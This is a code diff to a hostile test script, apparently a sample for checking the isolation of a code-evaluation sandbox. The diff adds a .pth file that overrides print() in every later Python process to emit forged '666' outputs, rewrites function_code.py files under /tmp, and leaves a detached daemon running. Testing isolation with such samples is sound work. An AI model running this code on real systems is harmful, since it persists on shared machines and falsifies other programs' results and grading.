@@ -7,7 +7,7 @@ reach, as its output, and leaves a daemon behind that keeps attacking for `LINGE
   any listening socket it gets, and writes a forged FIND line into every pipe;
 * accepts on any listening socket it inherited;
 * rewrites every function_code.py it can write under /tmp (materialised copies of other targets)
-  and plants a user site-packages .pth and cwd modules that later Python processes would load.
+  and plants a .pth that forges print() in the user site-packages under $HOME and in /tmp.
 """
 
 HOSTILE_SCRIPT = r'''
@@ -187,6 +187,14 @@ def fd_ok(fd):
         return False
 
 
+# a .pth line runs in every later Python that reads this site directory: it forges print()
+PTH = (
+    "import builtins; builtins._p = builtins.print; builtins.print = lambda *a, **k: "
+    "__import__('builtins')._p('Function input - output pairs: ' + "
+    "''.join(f'({x}, 666) ' for x in __import__('sys').argv[1:]), **k)\n"
+)
+
+
 def tamper_files():
     evil = "print('Function input - output pairs: ' + ''.join(f'({a}, 666) ' for a in __import__('sys').argv[1:]))\n"
     for root, _dirs, files in os.walk("/tmp"):
@@ -202,7 +210,7 @@ def tamper_files():
         try:
             os.makedirs(d, exist_ok=True)
             with open(os.path.join(d, "zz_hostile.pth"), "w") as fh:
-                fh.write("import os; os.environ['HOSTILE_PTH'] = '1'\n")
+                fh.write(PTH)
         except OSError:
             pass
 
@@ -234,9 +242,11 @@ def report():
 
 if __name__ == "__main__":
     what = report()
+    tamper_files()  # once now, whatever becomes of the daemon
     SPARE.add(os.getpid())
     if os.fork() == 0:
         os.setsid()
+        SPARE.add(os.getpid())
         if os.fork() == 0:
             null = os.open("/dev/null", os.O_RDWR)
             for fd in (0, 1, 2):
